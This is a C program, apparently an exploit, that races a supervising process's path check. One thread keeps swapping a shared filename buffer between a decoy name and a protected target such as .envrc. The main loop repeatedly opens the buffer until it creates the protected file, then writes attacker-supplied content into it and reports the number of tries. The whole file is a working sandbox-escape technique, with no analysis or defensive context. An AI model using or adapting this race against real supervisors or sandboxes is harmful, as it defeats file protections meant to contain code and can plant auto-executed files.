/* Creates a protected, absent name (argv[1], e.g. .envrc) by racing the
 * observer: another thread flips the path between the supervisor's read
 * and the kernel's. Writes argv[2] into it. */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
static char buf[256];
static const char *good, *bad = "zzdecoy";
static volatile int stop;
static void *flip(void *a)
{
	(void)a;
	while (!stop) {
		strcpy(buf, bad);
		strcpy(buf, good);
	}
	return NULL;
}
int main(int argc, char **argv)
{
	good = argv[1];
	strcpy(buf, bad);
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	for (long i = 0; i < 2000000; i++) {
		int fd = open(buf, O_WRONLY | O_CREAT | O_NOFOLLOW, 0644);
		if (fd >= 0) {
			struct stat a, b;
			if (fstat(fd, &a) == 0 && stat(good, &b) == 0 && a.st_ino == b.st_ino) {
				if (write(fd, argv[2], strlen(argv[2])) < 0)
					perror("write");
				printf("won after %ld tries\n", i);
				stop = 1;
				close(fd);
				return 0;
			}
			close(fd);
		}
	}
	stop = 1;
	printf("lost\n");
	return 1;
}
